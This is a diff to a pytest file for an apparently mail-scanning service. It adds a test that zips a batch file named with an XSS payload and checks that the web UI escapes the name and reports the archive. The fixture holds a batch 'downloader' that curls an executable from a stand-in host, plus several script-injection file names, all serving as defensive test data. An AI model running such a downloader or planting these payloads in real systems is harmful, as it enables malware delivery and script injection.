@@ -5,8 +5,10 @@ from __future__ import annotations
 import base64
 import hashlib
 import http.client
+import io
 import re
 import time
+import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -21,6 +23,7 @@ DOWNLOADER = b"@echo off\r\ncurl -s -o x.exe http://downloads.example/x.exe\r\ns
 SCRIPT_NAME = "<script>alert(1)<script>.bat"
 SVG_NAME = "<svg onload=alert(2)>.bat"
 MESSAGE_ID = "<\"<script>alert(3)</script>\"@evil.example>"
+MEMBER = "<svg onload=alert(5)>.bat"
 
 
 def message(filename_header: str, content: bytes, message_id: str, subject: str = "hello") -> bytes:
@@ -64,6 +67,11 @@ def owl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, dict
                             "alice@x.example", "carol@y.example")
         facts["clean"] = post(server, message('filename="notes.pdf"', b"%PDF-1.4\n%%EOF\n", "<three@x>"),
                               "alice@x.example", "dave@y.example")
+        archive = io.BytesIO()
+        with zipfile.ZipFile(archive, "w") as zipped:
+            zipped.writestr(MEMBER, DOWNLOADER)
+        facts["zip"] = post(server, message('filename="photos.zip"', archive.getvalue(), "<four@x>"),
+                            "zip@x.example", "dave@y.example")
         for result in facts.values():
             eventually(lambda r=result: page(server, f"/ui/messages/{r['support_id']}")[0] == 200)
         yield server, facts
@@ -118,6 +126,13 @@ def test_job_page_by_id_and_by_sha256(owl: tuple[Server, dict[str, Any]]) -> Non
     assert "job-id=" in by_id  # the verdict log line of the job
     status, by_hash, _ = page(server, f"/ui/jobs/{sha256.upper()}")
     assert status == 200 and f"Job <span class=\"id\">{part['job_id']}</span>" in by_hash
+    # what the analysers reported: the archive's members (escaped), the file types by content
+    zip_job = facts["zip"]["parts"][0]["job_id"]
+    _, archive, _ = page(server, f"/ui/jobs/{zip_job}")
+    assert '<dd class="members"><span class="file">&lt;svg onload=alert(5)&gt;.bat</span></dd>' in archive
+    assert '<h3 class="report">archivereport</h3>' in archive and "<svg" not in archive
+    assert "member &#39;&lt;svg onload=alert(5)&gt;.bat&#39;" in archive  # the archive rule's reason
+    assert '<h3 class="report">filereport</h3>' in by_id and "text/x-msdos-batch" in by_id
     assert page(server, "/ui/jobs/" + "0" * 64)[0] == 404
     assert page(server, "/ui/jobs/99999999")[0] == 404
 
